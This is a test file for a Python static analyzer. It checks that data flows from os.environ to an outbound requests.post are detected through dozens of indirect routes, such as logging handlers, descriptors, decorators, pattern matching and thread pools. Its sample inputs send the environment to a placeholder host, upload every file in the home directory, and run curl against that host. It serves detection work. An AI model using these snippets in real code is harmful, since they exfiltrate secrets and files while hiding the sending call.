import { describe, expect, test } from 'vitest';
import { LABEL } from '../js/labels.ts';
import { analyzePython } from './facts.ts';

/** What reaches what while the source is loaded. */
function flows(source: string): string[] {
  return analyzePython(source, { script: true })
    .flow.flows.filter(({ live }) => live)
    .map(({ labels, sinkName }) => {
      const names = Object.entries(LABEL).flatMap(([name, bit]) => ((labels & bit) === 0 ? [] : [name]));
      return `${names.join('+')} > ${sinkName}`;
    });
}

const SEND = 'def send(text): requests.post("https://a.weir.test/x", data=text)\n';
const SENT = 'envAll > requests.post';

describe('a function that something else calls', () => {
  test.each([
    [
      'one of several for a type',
      `@functools.singledispatch\ndef emit(v): pass\n@emit.register\ndef _(v: dict): send(v)\nemit(os.environ)`,
    ],
    [
      'one of several, by its type',
      `@functools.singledispatch\ndef emit(v): pass\n@emit.register(dict)\ndef _(v): send(v)\nemit(os.environ)`,
    ],
    [
      'a member of an enumeration',
      `class Step(enum.Enum):\n  GO = functools.partial(send, os.environ)\nfor step in Step:\n  step.value()`,
    ],
    [
      'one that shows warnings',
      `def show(message, *rest): send(message)\nwarnings.showwarning = show\nwarnings.warn(str(os.environ))`,
    ],
    [
      'a handler of a log',
      `class H(logging.Handler):\n  def emit(self, record): send(record.getMessage())\nlog = logging.getLogger("a")\nlog.addHandler(H())\nlog.info(os.environ)`,
    ],
    [
      'a handler of the root log',
      `class H(logging.Handler):\n  def emit(self, record): send(record.msg)\nlogging.basicConfig(handlers=[H()])\nlogging.info("%s", os.environ)`,
    ],
    [
      'a stream that is printed to',
      `class T:\n  def write(self, text): send(text)\nsys.stdout = T()\nprint(os.environ)`,
    ],
    [
      'a decorator that is an object',
      `class R:\n  def __call__(self, f):\n    f(os.environ)\n    return f\n@R()\ndef go(text): send(text)`,
    ],
    [
      'a decorator that is a class',
      `class R:\n  def __init__(self, f): f(os.environ)\n@R\ndef go(text): send(text)`,
    ],
    [
      'a decorator of a class',
      `def run(cls):\n  cls().go(os.environ)\n  return cls\n@run\nclass C:\n  def go(self, text): send(text)`,
    ],
    ['a descriptor', `class D:\n  def __get__(self, o, t): send(os.environ)\nclass C:\n  d = D()\nC().d`],
    [
      'a property that has a setter as well',
      `class C:\n  @property\n  def d(self): send(os.environ)\n  @d.setter\n  def d(self, v): pass\nC().d`,
    ],
    [
      'a property that is kept',
      `class C:\n  @functools.cached_property\n  def d(self): send(os.environ)\nC().d`,
    ],
    [
      'a setter',
      `class C:\n  @property\n  def d(self): pass\n  @d.setter\n  def d(self, v): send(v)\nC().d = os.environ`,
    ],
    ['__setattr__', `class C:\n  def __setattr__(self, n, v): send(v)\nC().d = os.environ`],
    [
      'a descriptor that is set',
      `class D:\n  def __set__(self, o, v): send(v)\nclass C:\n  d = D()\nC().d = os.environ`,
    ],
    ['__setitem__', `class C:\n  def __setitem__(self, k, v): send(v)\nC()["d"] = os.environ`],
    ['a key of groups', `list(itertools.groupby([os.environ], key=send))`],
    ['a context', `contextvars.copy_context().run(send, os.environ)`],
    ['an operator', `operator.call(send, os.environ)`],
    ['a partial that something runs', `atexit.register(functools.partial(send, os.environ))`],
    [
      'a partial of a method',
      `class C:\n  def _s(self, v): send(v)\n  go = functools.partialmethod(_s, os.environ)\nC().go()`,
    ],
    ['an attribute of the own module', `getattr(sys.modules[__name__], "send")(os.environ)`],
    ['an annotation', `x: send(os.environ) = 1`],
    ['what a case takes out', `match ("go", os.environ):\n  case ("go", text): send(text)`],
    ['what a case names', `match os.environ:\n  case text: send(text)`],
    [
      'what a thread gives',
      `def get(): return os.environ\nwith concurrent.futures.ThreadPoolExecutor() as pool:\n  send(pool.submit(get).result())`,
    ],
    [
      'a pool, with each item',
      `def get(x): return x\nwith multiprocessing.Pool() as pool:\n  send(pool.map(get, [os.environ]))`,
    ],
  ])('%s', (_how, source) => {
    const imports =
      'import atexit, concurrent.futures, contextvars, itertools, operator, enum, functools, logging, multiprocessing, os, requests, sys, warnings\n';
    expect(flows(`${imports}${SEND}${source}`).join()).toMatch(/\benvAll\b[\w+]* > requests\.post/);
  });

  test('a pool, with each file that a folder lists', () => {
    const source =
      'import requests\nfrom pathlib import Path\nfrom concurrent.futures import ThreadPoolExecutor\n' +
      'def up(p):\n  with p.open("rb") as f: requests.put("https://a.weir.test/x", data=f)\n' +
      'with ThreadPoolExecutor() as pool: pool.map(up, [p for p in Path.home().glob("*")])';
    expect(flows(source).join()).toContain('harvest');
  });

  test('the first of several that are not all known is one of them', () => {
    const source =
      'import shutil, subprocess\nsubprocess.run([next(p for n in ("curl",) if (p := shutil.which(n))), "https://a.weir.test/x"])';
    expect(analyzePython(source).commands.map(({ argv }) => argv)).toEqual([
      ['curl', 'https://a.weir.test/x'],
    ]);
  });

  test('a decorator that nobody defined leaves the function', () => {
    expect(
      flows(`import os, requests\nfrom a import deco\n${SEND}@deco\ndef go(): send(os.environ)\ngo()`),
    ).toContain(SENT);
  });

  test('a partial of what nobody defined, by name, is not given to itself', () => {
    const source =
      'import functools\ndef start(loop): loop.connect(on_done=functools.partial(loop.finish, 1), on_error=functools.partial(loop.fail, 2))\n';
    expect(analyzePython(source).problem).toBeNull();
  });

  test.each([
    [
      'two that hold each other',
      'def start(it):\n    go = functools.partial(it.submit, 1)\n    go = functools.partial(it.run, go)\n    it.connect(go, go)\n',
    ],
    [
      'one of an object that nobody made',
      'async def done(fut, callback):\n    callback(fut)\nclass F:\n    def add(self, fn):\n        def run(fut): fn(fut)\n        self.loop.add(done, self, functools.partial(self.pool.submit, run))\n',
    ],
  ])('a partial is run once, and what stands behind it is read: %s', (_which, source) => {
    const facts = analyzePython(`import functools, os, requests\n${source}${SEND}send(os.environ)\n`);
    expect([facts.problem, facts.complete]).toEqual([null, true]);
    expect(flows(`import functools, os, requests\n${source}${SEND}send(os.environ)\n`)).toContain(SENT);
  });
});
